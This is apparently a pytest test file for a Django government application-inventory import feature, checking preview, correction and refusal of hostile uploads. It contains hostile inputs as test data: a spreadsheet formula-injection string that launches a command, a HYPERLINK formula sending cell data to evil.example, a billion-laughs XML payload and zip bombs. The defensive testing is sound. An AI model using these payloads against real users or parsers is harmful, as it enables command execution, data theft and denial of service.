"""The import in the browser's terms: upload, a preview a person corrects, then confirmation.

Nobody loses what they chose: a reload and a refused choice both show the choices as made.
Hostile files (formulas, archive bombs, DTDs) get a clear 400 and nothing is stored.
"""

import csv
import io
import re
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from openpyxl import Workbook

from simpatik.accounts.models import Opd
from simpatik.inventory.models import Application, OpdAlias
from simpatik.inventory.tests.files import REGENCY_CSV, ods_like_calc


@pytest.fixture
def client(kasie, regency):
    client = Client()
    client.force_login(kasie)
    return client


def upload(client, name, content):
    return client.post("/inventaris/impor/", {"file": SimpleUploadedFile(name, content)})


def selects(html: str, name: str) -> list[str]:
    """The selected value of every <select name=...> on the page, in order."""
    found = []
    for block in re.findall(rf'<select name="{name}"[^>]*>(.*?)</select>', html, re.S):
        chosen = re.search(r'<option value="([^"]*)" selected>', block)
        found.append(chosen.group(1) if chosen else None)
    return found


def form_of(html: str) -> dict:
    """What the page's form would post as it stands (hidden fields and selected options)."""
    data = {
        "kolom_index": re.findall(r'name="kolom_index" value="(\d+)"', html),
        "kolom": selects(html, "kolom"),
        "opd_key": re.findall(r'name="opd_key" value="([^"]*)"', html),
        "opd": selects(html, "opd"),
        "dev_key": re.findall(r'name="dev_key" value="([^"]*)"', html),
        "dev": selects(html, "dev"),
        "fingerprint": re.search(r'name="fingerprint" value="(\w+)"', html).group(1),
    }
    mode = re.search(r'name="mode" value="(\w+)"', html)
    if mode:
        data["mode"] = mode.group(1)
    return data


def test_the_preview_shows_where_each_column_went_and_each_opd_match_with_its_score(client):
    response = upload(client, "inventaris-kabupaten.csv", REGENCY_CSV.read_bytes())
    assert response.status_code == 302
    page = client.get(response["Location"])
    html = page.content.decode()
    assert page.status_code == 200
    assert selects(html, "kolom")[:4] == ["", "nama", "opd", "deskripsi"]
    assert "nomor urut, diabaikan" in html
    row = re.search(r'<tr data-opd="dinas kesehatan kab bolmut".*?</tr>', html, re.S).group(0)
    assert "Dinas Kesehatan Kab. Bolmut" in row and '<td class="score">100</td>' in row
    assert "kemiripan nama" in row
    unknown = re.search(r'<tr data-opd="dinas pertanian".*?</tr>', html, re.S).group(0)
    assert "Buat OPD baru: Dinas Pertanian" in unknown and "belum dikenal" in unknown
    assert 'data-developer="pusat" data-class="pusat"' in html
    assert re.search(r'data-row="13" data-status="error"', html)


def test_choices_survive_a_reload_and_a_refusal_and_then_import(client, kasie):
    location = upload(client, "inventaris-kabupaten.csv", REGENCY_CSV.read_bytes())["Location"]
    form = form_of(client.get(location).content.decode())
    # The person answers both questions and, by mistake, reads two columns as the URL.
    form["opd"][form["opd_key"].index("dinas pertanian")] = "baru"
    form["dev"][form["dev_key"].index("tim it dinas pertanian")] = "opd"
    form["kolom"][10] = "url"  # Keterangan, while Domain (E) is the URL already
    refused = client.post(location, {**form, "action": "preview"}, follow=True)
    html = refused.content.decode()
    assert refused.redirect_chain == [(location, 302)] and refused.status_code == 400
    assert "URL/subdomain dipilih untuk dua kolom: Domain dan Keterangan." in html
    assert selects(html, "kolom")[10] == "url"  # shown as typed
    assert selects(html, "opd")[form["opd_key"].index("dinas pertanian")] == "baru"
    assert not Application.objects.filter(nama="Sistem Informasi Pertanian").exists()

    again = client.get(location)  # a reload keeps everything, the mistake included
    html = again.content.decode()
    assert again.status_code == 400 and "dipilih untuk dua kolom" in html
    assert selects(html, "kolom")[10] == "url"
    assert selects(html, "dev")[form["dev_key"].index("tim it dinas pertanian")] == "opd"

    form = form_of(html)
    form["kolom"][10] = "sumber_anggaran"  # the mistake corrected
    fixed = client.post(location, {**form, "action": "preview"}, follow=True)
    html = fixed.content.decode()
    assert fixed.status_code == 200 and "dipilih untuk dua kolom" not in html
    assert "Galat: <strong>0</strong>" in html and "OPD baru: <strong>1</strong>" in html
    assert selects(client.get(location).content.decode(), "kolom")[10] == "sumber_anggaran"

    # Saving with a choice changed after the preview shows the new preview, writes nothing.
    form = form_of(html)
    form["kolom"][10] = ""
    changed = client.post(location, {**form, "action": "import"}, follow=True)
    assert changed.status_code == 200
    assert "Pratinjau berubah sesuai pilihan Anda" in changed.content.decode()
    assert not Opd.objects.filter(nama="Dinas Pertanian").exists()

    form = form_of(changed.content.decode())
    done = client.post(location, {**form, "action": "import"})
    assert done.status_code == 302 and done["Location"] == "/inventaris/"
    app = Application.objects.get(nama="Sistem Informasi Pertanian")
    assert (app.opd.nama, app.pengembang, app.sumber_anggaran) == ("Dinas Pertanian", "opd", "")
    gizi = Application.objects.get(nama="Aplikasi Gizi Balita")
    assert (gizi.opd.kode, gizi.status, gizi.pengembang_nama) == (
        "dinkes",
        "tidak_aktif",
        "CV Maju Jaya Teknologi",
    )
    assert OpdAlias.objects.filter(key="dinas kesehatan kab bolmut", opd__kode="dinkes").exists()
    # Uploaded again: every row unchanged, nothing to answer.
    html = client.get(
        upload(client, "inventaris-kabupaten.csv", REGENCY_CSV.read_bytes())["Location"]
    ).content.decode()
    assert "Tidak berubah: <strong>8</strong>" in html and "Galat: <strong>0</strong>" in html


def test_a_tampered_choice_is_refused_with_a_message(client):
    location = upload(client, "inventaris-kabupaten.csv", REGENCY_CSV.read_bytes())["Location"]
    form = form_of(client.get(location).content.decode())
    form["opd"][0] = "999999"
    response = client.post(location, {**form, "action": "preview"}, follow=True)
    assert response.status_code == 400
    assert "OPD pilihan untuk &#x27;Badan Perencanaan Pembangunan Daerah&#x27; tidak ditemukan" in (
        response.content.decode()
    )


def test_an_ods_upload_is_previewed(client):
    response = upload(client, "inventaris.ods", ods_like_calc())
    assert response.status_code == 302
    html = client.get(response["Location"]).content.decode()
    assert "Sistem Informasi Kesehatan Daerah" in html and "Baru: <strong>2</strong>" in html


def test_formula_text_is_stored_as_text_and_exported_quoted(client):
    evil = "=cmd|' /C calc'!A0"
    content = f'Nama Aplikasi,OPD,Pengembang\n"{evil}",Dinkes,"=HYPERLINK(""x"")"\n'.encode()
    location = upload(client, "jahat.csv", content)["Location"]
    html = client.get(location).content.decode()
    form = form_of(html)
    form["dev"][0] = "pihak_ketiga"  # a formula is no developer SIMPATIK knows: asked
    preview = client.post(location, {**form, "action": "preview"}, follow=True)
    client.post(location, {**form_of(preview.content.decode()), "action": "import"})
    app = Application.objects.get(nama=evil)
    assert app.pengembang_nama == '=HYPERLINK("x")'
    exported = client.get("/inventaris/ekspor.csv").content.decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(exported)) for cell in row]
    assert "'" + evil in cells and '\'=HYPERLINK("x")' in cells
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)


def xlsx_bytes() -> bytes:
    book = Workbook()
    book.active.append(["Nama Aplikasi", "OPD"])
    book.active.append(["SIMPUS", "Dinkes"])
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def with_member(content: bytes, name: str, data: bytes, *, replace: bool = False) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as source, zipfile.ZipFile(out, "w") as target:
        for info in source.infolist():
            if not (replace and info.filename == name):
                target.writestr(info, source.read(info.filename))
        target.writestr(name, data, compress_type=zipfile.ZIP_DEFLATED)
    return out.getvalue()


BILLION_LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "aaaaaaaaaa">'
    b'<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]><sst>&b;</sst>'
)
HOSTILE_FILES = {
    # name: (how to make it, the message people read); made in the test, not at collection, so
    # every pytest-xdist worker collects the same test ids.
    "bom.xlsx": (
        lambda: with_member(xlsx_bytes(), "xl/media/bom.bin", bytes(30 * 1024 * 1024)),
        "Arsip mengembang tidak wajar (lebih dari 100 kali ukurannya).",
    ),
    "bom.ods": (
        lambda: with_member(ods_like_calc(), "Pictures/bom.bin", bytes(30 * 1024 * 1024)),
        "Arsip mengembang tidak wajar (lebih dari 100 kali ukurannya).",
    ),
    "tawa.xlsx": (
        lambda: with_member(xlsx_bytes(), "xl/sharedStrings.xml", BILLION_LAUGHS, replace=True),
        "Berkas spreadsheet memuat deklarasi XML yang tidak diizinkan (DTD).",
    ),
    "lama.xls": (
        lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512),
        "Berkas .xls (Excel lama) tidak didukung: simpan sebagai .xlsx, .ods atau .csv.",
    ),
    "rusak.ods": (lambda: b"PK\x03\x04 bukan zip", "Arsip rusak atau tidak dapat dibaca."),
}


@pytest.mark.parametrize("name", sorted(HOSTILE_FILES))
def test_hostile_or_broken_files_are_refused_with_a_clear_400(client, name):
    make, message = HOSTILE_FILES[name]
    response = upload(client, name, make())
    assert response.status_code == 400
    assert message in response.content.decode().replace("&#x27;", "'")
    from django.core.files.storage import default_storage

    assert not default_storage.exists("imports") or default_storage.listdir("imports") == ([], [])


def test_an_archive_larger_than_allowed_once_inflated_is_refused(client, settings):
    import os

    settings.SIMPATIK_ARCHIVE_MAX_INFLATED_MB = 1
    response = upload(client, "besar.xlsx", with_member(xlsx_bytes(), "x.bin", os.urandom(2 << 20)))
    assert response.status_code == 400
    assert "Arsip terlalu besar setelah dibuka: paling besar 1 MB." in response.content.decode()


def test_only_inventory_managers_reach_the_import(opd_user):
    client = Client()
    client.force_login(opd_user)  # staff of an OPD: sees its own applications, imports nothing
    assert client.get("/inventaris/impor/").status_code == 403
    response = client.post(
        "/inventaris/impor/", {"file": SimpleUploadedFile("a.csv", REGENCY_CSV.read_bytes())}
    )
    assert response.status_code == 403


HOSTILE = [
    "9223372036854775808",
    "-1",
    "²",
    "٣٤",
    "[" * 5000 + "]" * 5000,
    "J" * 300,
    '=HYPERLINK("http://evil.example/?x="&A2,"Klik")',
    "",
]


def test_a_forged_preview_form_never_gives_a_server_error(client):
    location = upload(client, "inventaris-kabupaten.csv", REGENCY_CSV.read_bytes())["Location"]
    form = form_of(client.get(location).content.decode())
    for value in HOSTILE:
        for field in ("kolom_index", "kolom", "opd_key", "opd", "dev_key", "dev"):
            forged = {**form, field: [value] * len(form[field])}
            for action in ("preview", "import"):
                response = client.post(location, {**forged, "action": action}, follow=True)
                assert response.status_code in (200, 400), (field, value, action)
        client.post(location, {**form, "action": "preview"})  # back to a valid set
    assert not Application.objects.filter(nama="Sistem Informasi Pertanian").exists()
